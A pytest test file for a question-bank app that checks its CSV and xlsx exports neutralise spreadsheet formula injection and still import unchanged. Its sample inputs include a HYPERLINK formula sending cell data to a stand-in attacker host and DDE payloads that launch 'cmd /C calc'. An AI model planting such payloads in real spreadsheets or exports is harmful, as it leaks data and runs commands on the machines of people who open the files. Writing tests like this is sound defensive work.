"""Issue 9, defect 10: the question bank's CSV export wrote formulas raw. Every cell of the CSV and xlsx
exports goes through ``core.exports.safe_cell`` (a leading quote), and the import takes the quote off again,
so an export still imports unchanged into another bank."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from mofan.questions.exporters import export_bank
from mofan.questions.importers import import_questions
from mofan.questions.models import Question, QuestionBank
from mofan.questions.services import bank_create, question_create

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3", "'=已有引号", "'普通的引号开头"]


def make_bank(bank: QuestionBank, secretary: Any) -> None:
    for number, stem in enumerate(FORMULAS):
        question_create(actor=secretary, bank=bank, qtype="single", stem=stem, options=["=1+1", "-5", f"选项{number}"],
                        answers=["-5"], tags=["@标签"], explanation="+解析", source="=来源")


def shape(bank: QuestionBank) -> list[tuple[Any, ...]]:
    return sorted((q.qtype, q.stem, q.options, q.answers, sorted(t.name for t in q.tags.all()), q.source,
                   q.explanation) for q in Question.objects.filter(bank=bank).prefetch_related("tags"))


def test_the_csv_export_neutralises_formulas(bank: QuestionBank, secretary: Any) -> None:
    make_bank(bank, secretary)
    exported = export_bank(actor=secretary, bank=bank, fmt="csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    stems = {row[1] for row in rows[1:]}
    assert "'" + FORMULAS[0] in stems and "'@SUM(1+1)*cmd|' /C calc'!A0" in stems
    assert "'+cmd|' /C calc'!A0" in stems and "'-2+3" in stems
    assert "''=已有引号" in stems and "'普通的引号开头" in stems  # one more quote only before a formula
    assert not [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@"))]


def test_the_xlsx_export_holds_only_string_cells_for_formulas(bank: QuestionBank, secretary: Any) -> None:
    make_bank(bank, secretary)
    exported = export_bank(actor=secretary, bank=bank, fmt="xlsx")
    sheet = load_workbook(io.BytesIO(exported.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'-2+3" in {c.value for c in cells}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_imports_again_unchanged(bank: QuestionBank, secretary: Any, district: Any,
                                                      fmt: str) -> None:
    make_bank(bank, secretary)
    exported = export_bank(actor=secretary, bank=bank, fmt=fmt)
    other = bank_create(actor=secretary, unit=district.village_a1, name="副本")
    import_questions(actor=secretary, bank=other, file=exported.content, fmt=fmt)
    assert shape(other) == shape(bank)
